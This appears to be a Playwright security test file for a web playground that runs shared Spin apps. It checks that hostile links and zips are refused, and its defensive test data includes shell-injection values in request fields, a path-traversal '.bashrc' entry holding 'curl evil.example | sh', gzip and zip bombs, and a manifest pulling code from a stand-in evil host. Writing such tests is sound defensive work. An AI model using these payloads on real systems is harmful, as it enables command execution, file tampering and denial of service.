/**
 * What a stranger's link, zip or `?app=` address can make a visitor's tab do, tried as the
 * stranger would, through the viewer and the playground: a first request whose method is a shell
 * command, files that climb out of the app, a first request that acts on the visitor's copy of an
 * app, a gzip bomb, zip bombs, and a spin.toml that pulls its component from another host. Each
 * is refused with an error that says what and why, or kept in the visitor's hands.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import type { Page } from '@playwright/test';
import { SITE_URL, withHost } from '../fixtures/app-hosts.ts';
import { runnerApp } from '../fixtures/runner-app.ts';
import { expect, test } from '../fixtures/swerve.ts';
import { encodeSharedApp } from '@swerve/playground/share-link';
import { toCurl } from '@swerve/playground/request-spec';

/** A first deploy of the runner can take a while on a busy machine. */
const DEPLOY_TIMEOUT = 45_000;

const APP_ORIGIN = /\.swerve\.localhost/;

/** Counts every request it is sent in its store, and answers with the count and what it was sent. */
const COUNTING_HANDLER = `import { openDefault } from '@spinframework/spin-kv';
addEventListener('fetch', (event) => event.respondWith((async () => {
  const store = openDefault();
  const seen = Number(new TextDecoder().decode(store.get('seen') ?? new Uint8Array())) + 1;
  store.set('seen', String(seen));
  const r = event.request;
  return new Response(\`request \${seen}: \${r.method} \${new URL(r.url).pathname} x-act=\${r.headers.get('x-act')}\`);
})()));
`;

function toBase64Url(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('base64url');
}

/** No frame of the page is at an app origin: nothing of the link was started. */
function appFrames(page: Page): string[] {
  return page
    .frames()
    .map((f) => f.url())
    .filter((url) => APP_ORIGIN.test(new URL(url || 'about:blank', SITE_URL).host));
}

async function dropZip(page: Page, zip: Uint8Array, name: string): Promise<void> {
  await page.evaluate(
    ({ bytes, name }) => {
      const data = new DataTransfer();
      data.items.add(new File([new Uint8Array(bytes)], name, { type: 'application/zip' }));
      window.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
    },
    { bytes: [...zip], name },
  );
}

/** `zip` with every directory entry made to declare `declared` bytes, whatever it holds. */
function declaring(zip: Uint8Array, declared: number): Uint8Array {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  for (let at = 0; at + 4 <= zip.length; at++)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, declared, true);
  return zip;
}

const MANIFEST = new TextEncoder().encode(
  'spin_manifest_version = 2\n[application]\nname = "z"\n[[trigger.http]]\nroute = "/..."\nstatic_response = { body = "hi" }\n',
);

test('a link whose first request is a shell command is refused before anything runs', async ({ page }) => {
  const app = runnerApp('curl-bait', COUNTING_HANDLER);
  for (const method of ['`touch /tmp/pwned`', '$(touch /tmp/pwned)']) {
    await page.goto(`${SITE_URL}/view#${await encodeSharedApp({ ...app, request: { method, path: '/' } })}`);
    await expect(page.getByTestId('link-error')).toContainText(
      `its first request's method ${JSON.stringify(method)} is not one of GET, POST`,
    );
    // Nothing to open in the playground, and so no curl text to copy: the link never opened.
    await expect(page.getByTestId('open-in-playground')).toHaveCount(0);
    expect(appFrames(page)).toEqual([]);
  }
});

/** The words a shell makes of `command`, printed instead of run by curl, in an empty folder. */
function shellWords(command: string): { words: string[]; ranSomething: boolean } {
  const dir = mkdtempSync(join(tmpdir(), 'curl-words-'));
  const out = execFileSync('sh', ['-c', command.replace(/^curl /, "printf '%s\\n' ")], {
    cwd: dir,
    encoding: 'utf8',
  });
  return { words: out.split('\n').slice(0, -1), ranSomething: existsSync(join(dir, 'pwned')) };
}

test('"Copy as curl" of a link\'s request is a command a shell runs as curl and nothing else', async ({
  page,
}) => {
  // Whatever a link (or an older project) holds, the method included, stays one shell word each.
  const hostile = {
    method: '`touch pwned`',
    // A link's path has no spaces; ${IFS} is the shell's way around that.
    path: "/a'$(touch${IFS}pwned)`touch${IFS}pwned`",
    headers: "x-a: '$(touch pwned)'",
    body: "it's $(touch pwned) `touch pwned` \\' !!",
  };
  const direct = shellWords(toCurl(hostile, 'http://h.swerve.localhost'));
  expect(direct.ranSomething).toBe(false);
  expect(direct.words).toEqual([
    '-X',
    hostile.method,
    '-H',
    hostile.headers,
    '--data-raw',
    hostile.body,
    `http://h.swerve.localhost${hostile.path}`,
  ]);

  // Through the UI: a link's POST request, opened in the playground, copied as curl.
  const app = runnerApp('curl-copy', COUNTING_HANDLER);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: SITE_URL });
  await page.goto(
    `${SITE_URL}/view#${await encodeSharedApp({ ...app, request: { ...hostile, method: 'POST' } })}`,
  );
  await page.getByTestId('open-in-playground').click();
  await page.waitForURL(`${SITE_URL}/playground/`);
  await expect(page.getByTestId('request-path')).toHaveValue(hostile.path);
  await expect(page.getByTestId('run-status')).toHaveAttribute('data-status', 'ready', {
    timeout: DEPLOY_TIMEOUT,
  });
  await page.getByRole('button', { name: 'Copy as curl' }).click();
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
  const copied = shellWords(await page.evaluate(() => navigator.clipboard.readText()));
  expect(copied.ranSomething).toBe(false);
  expect(copied.words.slice(0, 6)).toEqual(['-X', 'POST', '-H', hostile.headers, '--data-raw', hostile.body]);
  expect(copied.words[6]).toMatch(/^http:\/\/[a-z0-9]+\.swerve\.localhost:\d+\//);
  expect(copied.words[6]!.endsWith(hostile.path)).toBe(true);
  expect(copied.words).toHaveLength(7);
});

test('a link or a zip naming a path outside the app is refused, and nothing is stored', async ({ page }) => {
  const app = runnerApp('climber', COUNTING_HANDLER);
  app.files['../../.bashrc'] = 'curl evil.example | sh';
  await page.goto(`${SITE_URL}/view#${await encodeSharedApp(app)}`);
  await expect(page.getByTestId('link-error')).toContainText('its file path "../../.bashrc" is not allowed');
  expect(appFrames(page)).toEqual([]);

  const zip = zipSync({ 'z/spin.toml': MANIFEST, 'z/../../.bashrc': new TextEncoder().encode('evil') });
  await dropZip(page, zip, 'climber.zip');
  await expect(page.getByTestId('link-error')).toContainText(
    'The zip entry "z/../../.bashrc" is not allowed',
  );
  expect(appFrames(page)).toEqual([]);

  // The playground's import refuses it too, and makes no project of it.
  await page.goto(`${SITE_URL}/playground/`);
  await page.getByTestId('source-input-import-zip').setInputFiles({
    name: 'climber.zip',
    mimeType: 'application/zip',
    buffer: Buffer.from(zip),
  });
  await expect(page.getByRole('alert')).toContainText('The zip entry "z/../../.bashrc" is not allowed');
  await expect(page.getByTestId('project')).toHaveCount(0);
});

test("a link's POST first request is not sent as it opens, and runs apart from the same app's data", async ({
  page,
}) => {
  const app = runnerApp('counter', COUNTING_HANDLER);
  // The visitor's copy of the app, opened from its plain link.
  await page.goto(`${SITE_URL}/view#${await encodeSharedApp(app)}`);
  await expect(page.getByTestId('response-body')).toHaveText('request 1: GET / x-act=null', {
    timeout: DEPLOY_TIMEOUT,
  });
  const own = await page.getByTestId('open-alone').getAttribute('href');

  // The stranger's link: the same app, with a first request that acts.
  const acting = { ...app, request: { method: 'POST', path: '/delete-all', headers: 'x-act: yes' } };
  await page.goto(`${SITE_URL}/view#${await encodeSharedApp(acting)}`);
  await expect(page.getByTestId('first-request-waiting')).toContainText('POST /delete-all', {
    timeout: DEPLOY_TIMEOUT,
  });
  await expect(page.getByTestId('request-extras')).toContainText('x-act: yes');
  await expect(page.getByTestId('response-body')).toHaveCount(0);
  const theirs = await page.getByTestId('open-alone').getAttribute('href');
  expect(theirs).not.toBe(own);
  // Sent only when the visitor presses Send, and then it is the first request this copy sees.
  await page.getByTestId('send').click();
  await expect(page.getByTestId('response-body')).toHaveText('request 1: POST /delete-all x-act=yes');
});

test('a gzip bomb link is stopped at the limit, with an error naming it', async ({ page }) => {
  const bomb = gzipSync(new Uint8Array(20 * 1024 * 1024), { level: 9 });
  await page.goto(`${SITE_URL}/view#v1.${toBase64Url(bomb)}`);
  await expect(page.getByTestId('link-error')).toContainText(
    'This link unpacks to more than 8 MiB (the limit MAX_LINK_APP_BYTES)',
  );
  expect(appFrames(page)).toEqual([]);
});

test('zip bombs are refused: sizes over the limits before unpacking, sizes that lie while unpacking', async ({
  page,
}) => {
  await page.goto(`${SITE_URL}/view`);
  // Declares 4 GiB for a few bytes: refused from the directory, nothing allocated for it.
  await dropZip(page, declaring(zipSync({ 'z/spin.toml': MANIFEST }), 0xfffffff0), 'huge.zip');
  await expect(page.getByTestId('link-error')).toContainText(
    'over the 64 MiB one file may have (MAX_ZIP_ENTRY_BYTES); nothing was unpacked',
  );
  // Declares a few bytes for 16 MiB: stopped one byte past what it declared.
  const lying = declaring(zipSync({ 'z/spin.toml': MANIFEST, 'z/big.bin': new Uint8Array(16 << 20) }), 200);
  await dropZip(page, lying, 'lying.zip');
  await expect(page.getByTestId('link-error')).toContainText(
    'unpacks to other than the 200 bytes its directory declares',
  );
  expect(appFrames(page)).toEqual([]);
});

test('?app= refuses a spin.toml whose component is on another host, or that a digest cannot cover', async ({
  page,
}) => {
  const fetched: string[] = [];
  const manifest = (source: string) =>
    `spin_manifest_version = 2\n[application]\nname = "remote"\n[[trigger.http]]\nroute = "/..."\ncomponent = "c"\n[component.c]\nsource = "${source}"\n`;
  await page.route('https://*.example.test/**', (route) => {
    fetched.push(route.request().url());
    const body = route.request().url().endsWith('.toml')
      ? manifest(route.request().url().includes('/other/') ? 'https://evil.example.test/c.wasm' : 'c.wasm')
      : 'not wasm';
    return route.fulfill({ body, headers: { 'access-control-allow-origin': '*' } });
  });
  await page.goto(`${SITE_URL}/view?app=${encodeURIComponent('https://apps.example.test/other/spin.toml')}`);
  await expect(page.getByTestId('link-error')).toContainText(
    'may name only files in its own folder; nothing was fetched or run',
  );
  expect(fetched).toEqual(['https://apps.example.test/other/spin.toml']);

  fetched.length = 0;
  const text = manifest('c.wasm');
  const hex = Buffer.from(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text))).toString(
    'hex',
  );
  await page.goto(
    `${SITE_URL}/view?app=${encodeURIComponent('https://apps.example.test/app/spin.toml')}&digest=sha256:${hex}`,
  );
  await expect(page.getByTestId('link-error')).toContainText(
    'Share the app as a zip, whose digest covers every byte',
  );
  expect(fetched.filter((url) => url.endsWith('c.wasm'))).toEqual([]);
  expect(appFrames(page)).toEqual([]);
});

test('the secrets form says where secrets go, and the visitor can forget them', async ({ page }) => {
  const app = runnerApp(
    'with-secret',
    "import { get } from '@spinframework/spin-variables';\naddEventListener('fetch', (e) => e.respondWith(new Response(`ends ${get('token').slice(-4)}`)));\n",
    {
      extraManifest:
        'variables = { token = "{{ api_token }}" }\nallowed_outbound_hosts = ["https://api.example.com"]\n',
    },
  );
  app.files['spin.toml'] = (app.files['spin.toml'] as string).replace(
    '[[trigger.http]]',
    '[variables]\napi_token = { required = true, secret = true }\n\n[[trigger.http]]',
  );
  await page.goto(`${SITE_URL}/view#${await encodeSharedApp(app)}`);
  const form = page.getByTestId('secrets-form');
  await expect(form).toContainText('kept in this browser');
  await expect(page.getByTestId('secrets-hosts')).toContainText('https://api.example.com');
  await expect(form.getByTestId('security-docs')).toHaveAttribute('href', '/docs/security');
  await page.getByTestId('secret-api_token').fill('my-token-9876');
  await page.getByTestId('run-with-secrets').click();
  await expect(page.getByTestId('response-body')).toHaveText('ends 9876', { timeout: DEPLOY_TIMEOUT });
  const origin = new URL((await page.getByTestId('open-alone').getAttribute('href'))!);
  await page.getByTestId('forget-secrets').click();
  await expect(page.getByTestId('secrets-forgotten')).toBeVisible();
  // Gone from the app's origin, where they were kept with its deploy.
  await page.goto('/');
  await expect(page.locator('body[data-host="ready"]')).toBeAttached();
  const key = origin.hostname.split('.')[0]!;
  expect(await withHost(page, key, (host) => host.apps(), null)).toEqual([]);
});
